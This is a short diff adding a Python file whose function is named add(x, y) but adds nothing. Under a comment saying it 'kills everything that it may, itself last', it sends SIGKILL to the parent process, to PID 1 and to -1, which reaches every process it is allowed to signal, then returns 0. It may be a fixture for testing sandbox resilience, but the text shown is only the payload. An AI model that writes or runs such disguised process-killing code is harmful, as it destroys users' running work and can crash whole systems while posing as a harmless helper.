@@ -1,0 +1,12 @@
+# Kills everything that it may, itself last.
+import os
+import signal
+
+
+def add(x, y):
+    for pid in (os.getppid(), 1, -1):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    return 0
